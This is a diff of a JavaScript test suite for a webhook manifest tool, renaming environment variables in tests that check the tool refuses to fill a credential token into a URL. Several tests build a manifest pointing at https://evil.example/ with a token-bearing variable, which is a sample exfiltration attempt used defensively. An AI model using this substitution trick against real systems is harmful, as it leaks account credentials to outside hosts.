@@ -65,40 +65,40 @@ describe('a manifest', () => {
     ['a file, with more around it', `Bearer ${TOKENS.test} `],
   ])('can’t fill in a copy of a token that came from %s, whatever its name', async (_from, value) => {
     const { place } = await openAccounts();
-    place.environment.HARMLESS = value;
-    await place.write('live.yaml', manifestWith('https://evil.example/${HARMLESS}'));
+    place.environment.WEBHOOKS_HARMLESS = value;
+    await place.write('live.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
     for (const args of [['validate'], ['plan', '--no-refresh'], ['apply', '--init']]) {
       const { code, stdout, stderr } = await place.run(...args, ...WITH);
-      expect([code, stderr]).toEqual([3, expect.stringContaining('the value of HARMLESS holds a credential')]);
+      expect([code, stderr]).toEqual([3, expect.stringContaining('the value of WEBHOOKS_HARMLESS holds a credential')]);
       expect(stdout + stderr).not.toMatch(/token-of-(live|test)-account/);
     }
   });
 
   it('can’t fill in a copy of the token of COPERNICA_ACCESS_TOKEN_FILE', async () => {
     const { place } = await openAccounts();
-    Object.assign(place.environment, { COPERNICA_ACCESS_TOKEN_FILE: 'test-token', HARMLESS: TOKENS.test });
-    await place.write('webhooks.yaml', manifestWith('https://evil.example/${HARMLESS}'));
+    Object.assign(place.environment, { COPERNICA_ACCESS_TOKEN_FILE: 'test-token', WEBHOOKS_HARMLESS: TOKENS.test });
+    await place.write('webhooks.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
     const { code, stderr } = await place.run('plan');
-    expect([code, stderr]).toEqual([3, expect.stringContaining('the value of HARMLESS holds a credential')]);
+    expect([code, stderr]).toEqual([3, expect.stringContaining('the value of WEBHOOKS_HARMLESS holds a credential')]);
   });
 
   it('can’t get at a token in the daemon either', async () => {
     const { sandbox, place } = await openAccounts();
-    place.environment.HARMLESS = TOKENS.test;
+    place.environment.WEBHOOKS_HARMLESS = TOKENS.test;
     const daemon = place.start('run', '--init', '--schedule', 'off', '--account', 'live', ...WITH);
     await daemon.waitForOutput(/reconciled/);
-    await place.write('live.yaml', manifestWith('https://evil.example/${HARMLESS}'));
-    const output = await daemon.waitForOutput(/the value of HARMLESS holds a credential/);
+    await place.write('live.yaml', manifestWith('https://evil.example/${WEBHOOKS_HARMLESS}'));
+    const output = await daemon.waitForOutput(/the value of WEBHOOKS_HARMLESS holds a credential/);
     daemon.kill('SIGTERM');
     await daemon.finished;
     expect(output).not.toContain(TOKENS.test);
     expect(sandbox.account('34')).toMatchObject([{ handler: 'https://a.example/x' }]);
   });
 
-  it('may fill in variables of any other name and value', async () => {
+  it('may fill in any other value', async () => {
     const { sandbox, place } = await openAccounts();
-    place.environment.HOOK_KEY = 'a-secret-of-the-handler';
-    await place.write('live.yaml', manifestWith('https://a.example/${HOOK_KEY}'));
+    place.environment.WEBHOOKS_KEY = 'a-secret-of-the-handler';
+    await place.write('live.yaml', manifestWith('https://a.example/${WEBHOOKS_KEY}'));
     expect((await place.run('apply', '--init', '--account', 'live', ...WITH)).code).toBe(0);
     expect(sandbox.account('34')).toMatchObject([{ handler: 'https://a.example/a-secret-of-the-handler' }]);
   });
